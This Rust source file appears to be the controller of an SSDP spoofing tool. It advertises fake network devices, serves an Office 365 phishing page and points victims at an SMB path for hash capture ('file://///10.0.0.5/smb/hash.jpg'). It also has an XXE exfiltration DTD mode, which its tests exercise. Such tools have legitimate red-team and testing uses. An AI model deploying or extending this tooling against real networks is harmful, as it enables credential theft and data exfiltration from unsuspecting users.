use std::net::{SocketAddr, TcpListener};
use std::sync::Arc;

use log::{error, info, warn};
use tokio::task::JoinHandle;

use crate::configuration::config::Config;
use crate::error_handling::types::*;
use crate::network::interfaces;
use crate::network::ssdp_listener::{bind_multicast_socket, SsdpListener, SSDP_PORT};
use crate::session_management::SessionIdentity;
use crate::storage::event_log::EventLog;
use crate::storage::storage_trait::{EventKind, EventSink};
use crate::templating::manager::{list_campaigns, validate_campaign_dir};
use crate::templating::TemplateManager;
use crate::web_interface::{Router, WebServer};

type TaskResult = Result<(), ControllerError>;

/// Owns startup and the lifetime of the discovery and web loops.
pub struct Controller {
    pub config: Config,
}

impl Controller {
    pub fn new(config: Config) -> Self {
        Self { config }
    }

    /// Builds the shared identity from the resolved configuration. The chosen
    /// interface must carry an IPv4 address.
    pub fn build_identity(&self) -> Result<SessionIdentity, ControllerError> {
        let local_ip = interfaces::resolve_interface_ipv4(&self.config.interface)?;
        Ok(identity_for(&self.config, local_ip))
    }

    pub async fn run(&mut self) -> Result<(), ControllerError> {
        if self.config.list_templates {
            return self.list_templates();
        }

        let identity = Arc::new(self.build_identity()?);
        validate_campaign_dir(&identity.campaign_dir)?;

        let log = EventLog::new(&self.config.log_dir)?;
        info!("Recording events to {}", log.path().display());
        let sink: Arc<dyn EventSink> = Arc::new(log);

        let socket = bind_multicast_socket(identity.local_ip, SSDP_PORT)?;
        let http_addr = SocketAddr::from((identity.local_ip, identity.local_port));
        // warp panics on bind failure, so check the port while we can still report it.
        drop(TcpListener::bind(http_addr).map_err(NetworkError::BindError)?);

        print_summary(&self.config, &identity, sink.as_ref());

        let listener = SsdpListener::new(identity.clone(), sink.clone());
        let mut ssdp_task: JoinHandle<TaskResult> =
            tokio::spawn(async move { listener.listen(socket).await.map_err(Into::into) });

        let router = Router::new(identity.clone(), TemplateManager::new(&identity), sink.clone());
        let web = WebServer::new(Arc::new(router));
        let mut web_task: JoinHandle<TaskResult> =
            tokio::spawn(async move { web.start(http_addr).await.map_err(Into::into) });

        let result = tokio::select! {
            res = &mut ssdp_task => {
                error!("Discovery listener stopped");
                flatten(res)
            }
            res = &mut web_task => {
                error!("Web server stopped");
                flatten(res)
            }
            _ = shutdown_signal() => {
                info!("Shutdown requested");
                Ok(())
            }
        };

        self.shutdown(&ssdp_task, &web_task);
        result
    }

    pub fn shutdown(&self, ssdp_task: &JoinHandle<TaskResult>, web_task: &JoinHandle<TaskResult>) {
        ssdp_task.abort();
        web_task.abort();
        info!("Listeners stopped");
    }

    fn list_templates(&self) -> Result<(), ControllerError> {
        let campaigns = list_campaigns(&self.config.templates_dir)?;
        if campaigns.is_empty() {
            warn!(
                "No campaigns found under {}",
                self.config.templates_dir.display()
            );
        }
        for name in campaigns {
            println!("{}", name);
        }
        Ok(())
    }
}

fn identity_for(config: &Config, local_ip: std::net::Ipv4Addr) -> SessionIdentity {
    SessionIdentity {
        local_ip,
        local_port: config.port,
        smb_server: config
            .smb_server
            .map(|ip| ip.to_string())
            .unwrap_or_else(|| local_ip.to_string()),
        redirect_url: config.redirect_url.clone(),
        session_usn: SessionIdentity::generate_usn(),
        analyze_only: config.analyze_only,
        auth_required: config.basic_auth,
        realm: config.realm.clone(),
        campaign_dir: config.campaign_dir(),
        assets_dir: config.assets_dir(),
    }
}

fn flatten(res: Result<TaskResult, tokio::task::JoinError>) -> TaskResult {
    match res {
        Ok(inner) => inner,
        Err(e) => Err(ControllerError::TaskFailed(e.to_string())),
    }
}

fn print_summary(config: &Config, identity: &SessionIdentity, sink: &dyn EventSink) {
    let note = |msg: String| sink.event(EventKind::Note, &msg);

    note(format!("Loaded campaign {}", identity.campaign_dir.display()));
    note(format!(
        "Listening on {} ({}) for SSDP M-SEARCH",
        config.interface, identity.local_ip
    ));
    note(format!("Device descriptor: {}", identity.device_desc_url()));
    note(format!("Service descriptor: {}", identity.service_desc_url()));
    note(format!("Phishing page: {}", identity.phish_url()));
    if !identity.redirect_url.is_empty() {
        note(format!("Login redirect: {}", identity.redirect_url));
    }
    if identity.auth_required {
        note(format!("Basic-Auth enabled, realm \"{}\"", identity.realm));
    }
    if identity.is_exfil_campaign() {
        note(format!("Exfiltration DTD: {}", identity.exfil_url()));
    } else {
        note(format!("SMB pointer: {}", identity.smb_pointer()));
    }
    if identity.analyze_only {
        sink.event(
            EventKind::Warning,
            "Analyze mode: discovery requests are logged, no replies are sent",
        );
    }
}

async fn shutdown_signal() {
    let ctrl_c = async {
        if let Err(e) = tokio::signal::ctrl_c().await {
            warn!("Unable to listen for Ctrl-C: {}", e);
            std::future::pending::<()>().await;
        }
    };

    #[cfg(unix)]
    let terminate = async {
        use tokio::signal::unix::{signal, SignalKind};
        match signal(SignalKind::terminate()) {
            Ok(mut sig) => {
                sig.recv().await;
            }
            Err(e) => {
                warn!("Unable to listen for SIGTERM: {}", e);
                std::future::pending::<()>().await;
            }
        }
    };
    #[cfg(not(unix))]
    let terminate = std::future::pending::<()>();

    tokio::select! {
        _ = ctrl_c => {}
        _ = terminate => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::configuration::config::Args;
    use crate::storage::memory_log::MemoryLog;
    use crate::templating::manager::test_support::write_campaign;
    use clap::Parser;
    use std::net::Ipv4Addr;
    use std::path::PathBuf;
    use tempfile::TempDir;

    fn sim_config(extra: &[&str]) -> Config {
        let mut argv = vec!["decoy", "eth0"];
        argv.extend_from_slice(extra);
        Config::resolve(Args::try_parse_from(argv).unwrap()).unwrap()
    }

    #[test]
    fn test_identity_defaults_smb_to_local_ip() {
        let identity = identity_for(&sim_config(&[]), Ipv4Addr::new(10, 0, 0, 5));
        assert_eq!(identity.smb_server, "10.0.0.5");
        assert_eq!(identity.local_port, 8888);
        assert_eq!(identity.campaign_dir, PathBuf::from("templates/office365"));
        assert_eq!(identity.assets_dir, PathBuf::from("templates/assets"));
        assert!(identity.session_usn.starts_with("uuid:"));
    }

    #[test]
    fn test_identity_honours_overrides() {
        let config = sim_config(&["-s", "10.0.0.20", "-b", "-a", "-t", "xxe-exfil"]);
        let identity = identity_for(&config, Ipv4Addr::new(10, 0, 0, 5));
        assert_eq!(identity.smb_server, "10.0.0.20");
        assert!(identity.auth_required);
        assert!(identity.analyze_only);
        assert!(identity.is_exfil_campaign());
    }

    #[test]
    fn test_summary_for_exfil_and_smb_campaigns() {
        let smb = identity_for(&sim_config(&[]), Ipv4Addr::new(10, 0, 0, 5));
        let log = MemoryLog::new();
        print_summary(&sim_config(&[]), &smb, &log);
        assert_eq!(log.count_containing("file://///10.0.0.5/smb/hash.jpg"), 1);
        assert_eq!(
            log.count_containing("http://10.0.0.5:8888/ssdp/device-desc.xml"),
            1
        );
        assert_eq!(log.count_containing("Exfiltration DTD"), 0);

        let config = sim_config(&["-t", "xxe-exfil", "-a"]);
        let exfil = identity_for(&config, Ipv4Addr::new(10, 0, 0, 5));
        let log = MemoryLog::new();
        print_summary(&config, &exfil, &log);
        assert_eq!(log.count_containing("http://10.0.0.5:8888/ssdp/data.dtd"), 1);
        assert_eq!(log.count_containing("Analyze mode"), 1);
    }

    #[tokio::test]
    async fn test_list_templates_mode() {
        let tmp = TempDir::new().unwrap();
        write_campaign(&tmp.path().join("office365"));
        let config = Config::resolve(Args {
            list_templates: true,
            templates_dir: Some(tmp.path().to_path_buf()),
            ..Args::default()
        })
        .unwrap();
        let mut controller = Controller::new(config);
        controller.run().await.unwrap();
    }

    #[tokio::test]
    async fn test_list_templates_missing_root() {
        let config = Config {
            list_templates: true,
            templates_dir: PathBuf::from("/nonexistent/templates"),
            ..Config::resolve(Args {
                list_templates: true,
                ..Args::default()
            })
            .unwrap()
        };
        let mut controller = Controller::new(config);
        assert!(matches!(
            controller.run().await,
            Err(ControllerError::TemplateError(TemplateError::NotFound(_)))
        ));
    }
}
